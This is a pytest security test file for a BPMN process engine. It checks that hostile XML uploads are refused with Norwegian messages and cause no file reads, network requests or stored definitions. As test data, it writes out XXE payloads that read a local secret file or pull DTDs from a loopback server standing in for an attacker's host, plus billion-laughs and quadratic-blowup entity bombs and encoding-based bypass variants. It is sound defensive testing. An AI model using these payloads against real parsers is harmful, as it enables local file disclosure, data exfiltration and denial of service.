"""Hostile BPMN files: each is refused with a message in bokmål, reads no local file, makes no
network request, stores nothing, and leaves the engine able to deploy the next file.

A loopback HTTP server stands in for an attacker's host, so a parser that fetched an external
DTD or entity would show up as a request in its log.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from sqlalchemy import func, select

from engine.engine import ProcessEngine
from engine.errors import DefinitionInvalid
from engine.models import ProcessDefinition
from tests.conftest import free_port

NS = ('xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
      'xmlns:camunda="http://camunda.org/schema/1.0/bpmn"')
PROCESS_BODY = """<bpmn:process id="fiendtlig" name="{name}" isExecutable="true">
<bpmn:startEvent id="start" />
<bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="slutt" />
<bpmn:endEvent id="slutt" />
</bpmn:process>"""
SECRET = "hemmelig-innhold-fra-serveren"


def definitions(name: str = "Fiendtlig", prolog: str = "", inner: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}'
            f'<bpmn:definitions {NS} id="d" targetNamespace="t">'
            + PROCESS_BODY.format(name=name) + inner + "</bpmn:definitions>\n")


class Trap:
    """A loopback HTTP server that records every request and serves a DTD with an entity."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        trap = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the name http.server calls)
                trap.requests.append(self.path)
                body = f'<!ENTITY stolen "{SECRET}">'.encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/xml-dtd")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def trap() -> Iterator[Trap]:
    server = Trap()
    yield server
    server.close()


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


def _external_file(trap: Trap, secret: Path) -> bytes:
    return definitions("&xxe;", f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'
                       ).encode()


def _external_http(trap: Trap, secret: Path) -> bytes:
    return definitions("&xxe;", f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "{trap.url}/e">]>\n'
                       ).encode()


def _parameter_entity(trap: Trap, secret: Path) -> bytes:
    return definitions("&stolen;", f'<!DOCTYPE d [<!ENTITY % ext SYSTEM "{trap.url}/p.dtd"> '
                       "%ext;]>\n").encode()


def _external_dtd(trap: Trap, secret: Path) -> bytes:
    return definitions("&stolen;", f'<!DOCTYPE d SYSTEM "{trap.url}/d.dtd">\n').encode()


def _public_dtd(trap: Trap, secret: Path) -> bytes:
    return definitions("&stolen;", f'<!DOCTYPE d PUBLIC "-//X//Y" "{trap.url}/pub.dtd">\n'
                       ).encode()


def _billion_laughs(trap: Trap, secret: Path) -> bytes:
    entities = '<!ENTITY a "hahahahaha">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    return definitions("&j;", f"<!DOCTYPE d [{entities}]>\n").encode()


def _quadratic_blowup(trap: Trap, secret: Path) -> bytes:
    return definitions("&big;" * 20_000, f'<!DOCTYPE d [<!ENTITY big "{"x" * 50_000}">]>\n'
                       ).encode()


def _lowercase_doctype(trap: Trap, secret: Path) -> bytes:
    return definitions("&xxe;", f'<!doctype d [<!entity xxe SYSTEM "file://{secret}">]>\n'
                       ).encode()


def _spaced_doctype(trap: Trap, secret: Path) -> bytes:
    return definitions("&xxe;", f'<! DOCTYPE d [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'
                       ).encode()


def _utf16_external_file(trap: Trap, secret: Path) -> bytes:
    text = definitions("&xxe;", f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "file://{secret}">]>\n')
    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def _utf16_billion_laughs(trap: Trap, secret: Path) -> bytes:
    text = _billion_laughs(trap, secret).decode()
    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def _utf32_external_http(trap: Trap, secret: Path) -> bytes:
    text = definitions("&xxe;", f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "{trap.url}/u32">]>\n')
    return text.replace('encoding="UTF-8"', 'encoding="UTF-32"').encode("utf-32")


def _utf16_without_mark(trap: Trap, secret: Path) -> bytes:
    text = definitions("&xxe;", f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "{trap.url}/u16">]>\n')
    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-be")


def _deep_nesting(trap: Trap, secret: Path) -> bytes:
    depth = 5_000
    inner = "<bpmn:documentation>" * depth + "</bpmn:documentation>" * depth
    return definitions(inner=inner).encode()


def _oversized(trap: Trap, secret: Path) -> bytes:
    return definitions(inner="<!-- " + "x" * (3 * 1024 * 1024) + " -->").encode()


def _not_xml(trap: Trap, secret: Path) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


def _empty(trap: Trap, secret: Path) -> bytes:
    return b""


def _nul_bytes(trap: Trap, secret: Path) -> bytes:
    return definitions(name="Fiend\x00tlig").encode()


def _invalid_utf8(trap: Trap, secret: Path) -> bytes:
    return definitions(name="Fiendtlig").encode().replace(b"Fiendtlig", b"Fiend\xff\xfetlig")


def _unclosed(trap: Trap, secret: Path) -> bytes:
    return definitions().encode()[:-30]


def _undeclared_entity(trap: Trap, secret: Path) -> bytes:
    return definitions("&ukjent;").encode()


HOSTILE: dict[str, Callable[[Trap, Path], bytes]] = {
    "external file entity": _external_file,
    "external http entity": _external_http,
    "parameter entity": _parameter_entity,
    "external DTD": _external_dtd,
    "public DTD": _public_dtd,
    "billion laughs": _billion_laughs,
    "quadratic blowup": _quadratic_blowup,
    "lowercase doctype": _lowercase_doctype,
    "spaced doctype": _spaced_doctype,
    "UTF-16 external file entity": _utf16_external_file,
    "UTF-16 billion laughs": _utf16_billion_laughs,
    "UTF-32 external http entity": _utf32_external_http,
    "UTF-16 without byte-order mark": _utf16_without_mark,
    "deep nesting": _deep_nesting,
    "oversized file": _oversized,
    "not XML": _not_xml,
    "empty file": _empty,
    "NUL byte": _nul_bytes,
    "invalid UTF-8": _invalid_utf8,
    "unclosed document": _unclosed,
    "undeclared entity": _undeclared_entity,
}

# The files whose danger is a document type declaration, refused before the parser runs.
DECLARATIONS = [name for name in HOSTILE if name != "undeclared entity" and (
    "entity" in name or "DTD" in name or "doctype" in name or "laughs" in name
    or "blowup" in name or "byte-order" in name)]

# Norwegian words that one of the refusal messages contains.
NORWEGIAN = ("filen", "Filen", "fila", "Fila", "dokumenttypedeklarasjon")


def _stored_definitions(engine: ProcessEngine) -> int:
    with engine.transaction(read_only=True):
        return engine.uow.session.scalar(select(func.count()).select_from(ProcessDefinition))


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_file_is_refused(name: str, engine: ProcessEngine, trap: Trap,
                                 secret_file: Path) -> None:
    data = HOSTILE[name](trap, secret_file)

    with pytest.raises(DefinitionInvalid) as raised:
        engine.repository.deploy([("fiendtlig.bpmn", data)], actor="paal.prosesseier")
    message = str(raised.value) + " ".join(p.text for p in raised.value.problems)

    assert raised.value.problems, "a refusal names at least one problem"
    assert any(word in message for word in NORWEGIAN), message
    assert SECRET not in message
    assert trap.requests == []
    assert _stored_definitions(engine) == 0


@pytest.mark.parametrize("name", DECLARATIONS)
def test_declaration_is_named(name: str, engine: ProcessEngine, trap: Trap,
                              secret_file: Path) -> None:
    with pytest.raises(DefinitionInvalid) as raised:
        engine.repository.deploy([("fiendtlig.bpmn", HOSTILE[name](trap, secret_file))])

    assert "dokumenttypedeklarasjon" in raised.value.problems[0].text
    assert raised.value.problems[0].line == 2


@pytest.mark.parametrize("name", list(HOSTILE))
def test_engine_deploys_after_hostile_file(name: str, engine: ProcessEngine, trap: Trap,
                                           secret_file: Path) -> None:
    with pytest.raises(DefinitionInvalid):
        engine.repository.deploy([("fiendtlig.bpmn", HOSTILE[name](trap, secret_file))])

    results = engine.repository.deploy([("vanlig.bpmn", definitions("Vanlig").encode())])

    assert [result.version for result in results] == [1]


def test_xinclude_is_not_followed(engine: ProcessEngine, trap: Trap,
                                  secret_file: Path) -> None:
    include = (f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
               f'href="file://{secret_file}" parse="text"/>'
               f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{trap.url}/x"/>')
    data = definitions("Med include", inner=include).encode()

    engine.repository.deploy([("include.bpmn", data)], actor="paal.prosesseier")
    with engine.transaction(read_only=True):
        stored = engine.uow.session.scalar(select(ProcessDefinition.bpmn_xml))

    assert SECRET not in stored
    assert trap.requests == []


def test_stylesheet_instruction_is_not_fetched(engine: ProcessEngine, trap: Trap) -> None:
    prolog = f'<?xml-stylesheet type="text/xsl" href="{trap.url}/s.xsl"?>\n'
    data = definitions("Med stilark", prolog=prolog).encode()

    engine.repository.deploy([("stilark.bpmn", data)], actor="paal.prosesseier")

    assert trap.requests == []


def test_parser_reason_has_no_position(engine: ProcessEngine) -> None:
    with pytest.raises(DefinitionInvalid) as raised:
        engine.repository.deploy([("tull.bpmn", b"tull")])
    problem = raised.value.problems[0]

    assert problem.line == 1
    assert "column" not in problem.text
    assert "på engelsk: Start tag expected" in problem.text
